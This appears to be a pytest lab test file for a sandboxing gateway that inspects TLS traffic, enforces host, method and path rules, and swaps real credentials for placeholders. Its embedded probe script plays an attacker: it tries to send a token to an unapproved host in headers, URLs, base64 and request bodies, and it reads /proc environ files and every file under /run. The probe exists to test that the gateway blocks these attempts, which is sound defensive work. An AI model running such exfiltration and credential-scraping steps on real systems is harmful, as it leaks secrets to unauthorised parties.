"""TLS inspection end to end in the lab, with real clients.

Rules with `inspect: true`, `methods` or `paths` make the gateway terminate TLS with the
session CA (trusted in the sandbox through SSL_CERT_FILE & co.) and check each request;
other hosts stay end-to-end TLS with the world's own (lab CA) certificate.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest
from tests.lab.config import CORRIDOR_LAB_FLAGS

from corridor.audit.store import read_events
from corridor.policy import Policy, Rule, Target, decide

CORRIDOR = [sys.executable, "-m", "corridor"]

POLICY = """\
version: 1
allow:
  - host: allowed.test
    methods: [GET]
    paths: [/headers, /bytes/]
  - host: other.test
"""

# curl inside the sandbox: trust comes from the session's variables (no --cacert), which
# hold the session CA; the uninspected host is checked with the lab CA explicitly.
CURL = "curl -sS --noproxy '*'"


@pytest.fixture
def setup(tmp_path, lab):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "lab-ca.pem").write_bytes(Path(lab.ca_pem).read_bytes())
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY)
    return ws, tmp_path / "state", policy


def corridor(lab, ws: Path, state: Path, policy: Path, script: str, *, upstream_ca: bool = True):
    extra = ["--upstream-ca", str(lab.ca_pem)] if upstream_ca else []
    argv = [*CORRIDOR, "run", *CORRIDOR_LAB_FLAGS, *extra, "--state-dir", str(state),
            "--workspace", str(ws), "--policy", str(policy), "--", "sh", "-c", script]  # fmt: skip
    return lab.run(argv, cwd=str(ws), timeout=90)


def events(lab, state: Path) -> list[dict]:
    r = lab.run([*CORRIDOR, "log", "--json", "--state-dir", str(state)])
    assert r.returncode == 0, r.stderr
    return [json.loads(line) for line in r.stdout.splitlines() if line.strip()]


@pytest.mark.parametrize(
    ("rule", "inspect"),
    [
        pytest.param({"host": "a.test"}, False, id="plain allow: end to end"),
        pytest.param({"host": "a.test", "inspect": True}, True, id="inspect: true"),
        pytest.param({"host": "a.test", "methods": ["GET"]}, True, id="methods"),
        pytest.param({"host": "a.test", "paths": ["/v1/"]}, True, id="paths"),
    ],
)
def test_decision_says_when_to_inspect(rule, inspect):
    d = decide(Policy(allow=[Rule(**rule)]), Target(host="a.test", port=443))
    assert d.allowed
    assert d.inspect is inspect


@pytest.mark.lab
def test_method_and_path_rules_under_inspection(lab, setup):
    ws, state, policy = setup
    script = (
        f"{CURL} -o /dev/null -w 'get %{{http_code}}\\n' https://allowed.test/headers; "
        f"{CURL} -o /dev/null -w 'post %{{http_code}}\\n' -d x https://allowed.test/headers; "
        f"{CURL} -o /dev/null -w 'path %{{http_code}}\\n' https://allowed.test/; "
        f"{CURL} -o /dev/null -w 'bytes %{{http_code}}\\n' https://allowed.test/bytes/10; "
        f"{CURL} -o /dev/null -w 'host %{{http_code}}\\n' -H 'Host: other.test' "
        "https://allowed.test/headers"
    )
    with lab.capture() as cap:
        r = corridor(lab, ws, state, policy, script)
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines() == [
        "get 200",
        "post 403",
        "path 403",
        "bytes 200",
        "host 403",
    ], r.stdout
    rows = events(lab, state)
    reasons = [e["reason"] for e in rows if e["kind"] == "conn" and e["decision"] == "deny"]
    assert "no rule allows this method" in reasons
    assert "no rule allows this path" in reasons
    assert "Host other.test differs from the TLS server name allowed.test" in reasons
    http = [(e["method"], e["path"], e["status"]) for e in rows if e["kind"] == "http"]
    assert ("GET", "/headers", 200) in http
    assert ("GET", "/bytes/10", 200) in http
    # Only the allowed requests reached the world.
    seen = [(h["method"], h["path"]) for h in cap.http_requests()]
    assert ("POST", "/headers") not in seen
    assert ("GET", "/") not in seen
    assert cap.catchall() == []


@pytest.mark.lab
def test_inspected_and_end_to_end_hosts_side_by_side(lab, setup):
    ws, state, policy = setup
    script = (
        f"{CURL} -v -o /dev/null https://allowed.test/headers 2>&1 | grep -i 'issuer:'; "
        f"{CURL} -v -o /dev/null --cacert lab-ca.pem https://other.test/ 2>&1 "
        "| grep -i 'issuer:'"
    )
    r = corridor(lab, ws, state, policy, script)
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    assert len(lines) >= 2, r.stdout
    assert "corridor session CA" in lines[0]  # our leaf for the inspected host
    assert "corridor lab CA" in lines[1]  # the world's own certificate, untouched
    assert "session" not in lines[1]
    rows = events(lab, state)
    conns = {(e["host"], e["protocol"]) for e in rows if e["kind"] == "conn"}
    assert ("allowed.test", "https") in conns
    assert ("other.test", "tls") in conns


@pytest.mark.lab
def test_upstream_certificate_failure_is_a_denial(lab, setup):
    ws, state, policy = setup
    # Without --upstream-ca the lab CA is not trusted: the world's certificate fails.
    r = corridor(
        lab,
        ws,
        state,
        policy,
        f"{CURL} -w '%{{http_code}}\\n' https://allowed.test/headers",
        upstream_ca=False,
    )
    assert r.returncode == 0, r.stderr
    assert r.stdout.strip().endswith("502"), r.stdout
    assert "upstream certificate for allowed.test rejected" in r.stdout
    rows = events(lab, state)
    denied = [e for e in rows if e["kind"] == "conn" and e["decision"] == "deny"]
    assert any("upstream certificate for allowed.test rejected" in e["reason"] for e in denied)


# ---- credential brokering ---------------------------------------------------------------

REAL = "real-" + "Zq7Xw2Lm9Pk4Rt8Vb3Nc6Hd1"  # the secret: only corridor's own environment has it

CREDENTIAL_POLICY = """\
version: 1
allow:
  - host: allowed.test
  - host: other.test
    inspect: true
credentials:
  - name: API_TOKEN
    from: env:CORRIDOR_LAB_REAL_TOKEN
    hosts: [allowed.test]
    inject: bearer
    ttl: {ttl}
"""

# Runs inside the sandbox: Python's urllib through HTTPS_PROXY (CONNECT, then inspection),
# trusting the session CA through SSL_CERT_FILE. One line per request: label and status.
PROBE = r"""
import base64, os, sys, time, urllib.error, urllib.request

tok = os.environ["API_TOKEN"]
pct = "".join("%%%02X" % b for b in tok.encode())


def go(url, data=None, headers=None):
    req = urllib.request.Request(url, data=data, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=20) as r:
            r.read()
            return r.status
    except urllib.error.HTTPError as e:
        return e.code


bearer = {"Authorization": "Bearer " + tok}
for label in sys.argv[1:]:
    if label == "sleep":
        time.sleep(2)
        continue
    status = {
        "bound": lambda: go("https://allowed.test/", headers=bearer),
        "header": lambda: go("https://other.test/", headers={"X-Token": tok}),
        "percent": lambda: go("https://other.test/?q=" + pct),
        "base64": lambda: go(
            "https://other.test/", headers={"X-Data": base64.b64encode(tok.encode()).decode()}
        ),
        "body": lambda: go("https://other.test/echo", data=b"x=" + tok.encode()),
        "plain-http": lambda: go("http://other.test/?t=" + tok),
    }[label]()
    print(label, status, flush=True)
with open("seen.txt", "w") as f:
    f.write(tok + "\n")
    for path in ("/proc/self/environ", "/proc/1/environ"):
        try:
            f.write(open(path, "rb").read().decode("latin-1") + "\n")
        except OSError as e:
            f.write(f"{path}: {e}\n")
    for root, _dirs, files in os.walk("/run"):
        for name in files:
            try:
                f.write(open(os.path.join(root, name), "rb").read().decode("latin-1"))
            except OSError:
                pass
"""


def run_probe(lab, tmp_path: Path, labels: list[str], ttl: str = "30m"):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "probe.py").write_text(PROBE)
    policy = tmp_path / "policy.yaml"
    policy.write_text(CREDENTIAL_POLICY.format(ttl=ttl))
    state = tmp_path / "state"
    argv = [*CORRIDOR, "run", *CORRIDOR_LAB_FLAGS, "--upstream-ca", str(lab.ca_pem),
            "--state-dir", str(state), "--workspace", str(ws), "--policy", str(policy),
            "--", "python3", "probe.py", *labels]  # fmt: skip
    with lab.capture() as cap:
        r = lab.run(argv, cwd=str(ws), timeout=120, env={"CORRIDOR_LAB_REAL_TOKEN": REAL})
        requests = cap.http_requests()
    assert r.returncode == 0, r.stderr
    results = dict(line.split() for line in r.stdout.splitlines())
    return results, requests, ws, state, r


def assert_no_real_value_anywhere(lab, ws: Path, state: Path, output: str) -> None:
    """Not in what the sandbox saw (env, /proc, /run), its output, the log or its files."""
    seen = (ws / "seen.txt").read_text()
    placeholder = seen.splitlines()[0]
    assert placeholder != REAL and placeholder
    assert REAL not in seen
    assert REAL not in output
    log = lab.run([*CORRIDOR, "log", "--json", "--state-dir", str(state)])
    assert REAL not in log.stdout
    for f in state.rglob("*"):
        if f.is_file():
            assert REAL.encode() not in f.read_bytes(), f
    for f in ws.rglob("*"):
        if f.is_file():
            assert REAL.encode() not in f.read_bytes(), f


@pytest.mark.lab
def test_credential_is_swapped_in_on_its_host_only(lab, tmp_path):
    labels = ["bound", "header", "percent", "base64", "body", "plain-http"]
    results, requests, ws, state, r = run_probe(lab, tmp_path, labels)
    assert results == {
        "bound": "200",
        "header": "403",
        "percent": "403",
        "base64": "403",
        "body": "403",
        "plain-http": "403",
    }, r.stderr
    # The bound host got the real value; nobody else got anything of it.
    to_allowed = [q for q in requests if q["host"] == "allowed.test"]
    assert [q["headers"].get("authorization") for q in to_allowed] == [f"Bearer {REAL}"]
    placeholder = (ws / "seen.txt").read_text().splitlines()[0]
    for q in requests:
        if q["host"] != "allowed.test":
            assert placeholder not in json.dumps(q), q
    stored = read_events(state / "events.db")  # the log view shows no credential rows
    used = [e for e in stored if e.kind == "credential"]
    assert [(e.host, e.data["name"]) for e in used] == [("allowed.test", "API_TOKEN")]
    flagged = [e for e in stored if e.kind == "exfiltration"]
    assert {(e.data["where"].split()[0], e.data["encoding"]) for e in flagged} >= {
        ("header", "plain"),
        ("url", "percent-encoded"),
        ("header", "base64"),
        ("body", "plain"),
        ("url", "plain"),
    }
    assert all(e.data["name"] == "API_TOKEN" and e.decision == "deny" for e in flagged)
    assert_no_real_value_anywhere(lab, ws, state, r.stdout + r.stderr)


@pytest.mark.lab
def test_expired_placeholder_is_refused(lab, tmp_path):
    results, requests, ws, state, r = run_probe(lab, tmp_path, ["sleep", "bound"], ttl="1s")
    assert results == {"bound": "403"}, r.stderr
    assert [q for q in requests if q["host"] == "allowed.test"] == []
    rows = events(lab, state)
    assert any(
        e["kind"] == "conn" and e["reason"].startswith("credential expired: API_TOKEN")
        for e in rows
    )
    assert_no_real_value_anywhere(lab, ws, state, r.stdout + r.stderr)


# git and pip against servers that require the brokered secrets: test_credentials_lab.py


@pytest.mark.lab
def test_client_that_refuses_the_session_ca_is_recorded(lab, setup):
    ws, state, policy = setup
    # --cacert replaces the session bundle: curl trusts only the lab CA and refuses our leaf.
    r = corridor(
        lab, ws, state, policy, f"{CURL} --cacert lab-ca.pem https://allowed.test/headers; echo $?"
    )
    assert r.returncode == 0, r.stderr
    assert r.stdout.strip().splitlines()[-1] == "60", r.stdout  # curl: peer certificate
    rows = events(lab, state)
    assert any(
        e["kind"] == "conn"
        and e["decision"] == "deny"
        and e["reason"].startswith("TLS handshake with the client failed")
        for e in rows
    ), rows


@pytest.mark.lab
@pytest.mark.parametrize(
    ("args", "message"),
    [
        pytest.param(
            ["--env", "CORRIDOR_LAB_REAL_TOKEN", "--", "true"],
            "environment would hold a real credential value in CORRIDOR_LAB_REAL_TOKEN",
            id="passed with --env",
        ),
        pytest.param(
            ["--", "echo", f"token={REAL}"],
            "command line holds a real credential value",
            id="in the command line",
        ),
    ],
)
def test_real_value_headed_into_the_sandbox_stops_the_run(lab, tmp_path, args, message):
    ws = tmp_path / "ws"
    ws.mkdir()
    policy = tmp_path / "policy.yaml"
    policy.write_text(CREDENTIAL_POLICY.format(ttl="30m"))
    argv = [*CORRIDOR, "run", *CORRIDOR_LAB_FLAGS, "--state-dir", str(tmp_path / "state"),
            "--workspace", str(ws), "--policy", str(policy), *args]  # fmt: skip
    r = lab.run(argv, cwd=str(ws), env={"CORRIDOR_LAB_REAL_TOKEN": REAL})
    assert r.returncode == 2, r.stderr
    assert r.stderr.startswith("corridor: error: the "), r.stderr
    assert message in r.stderr.splitlines()[0]
    assert REAL not in r.stdout + r.stderr
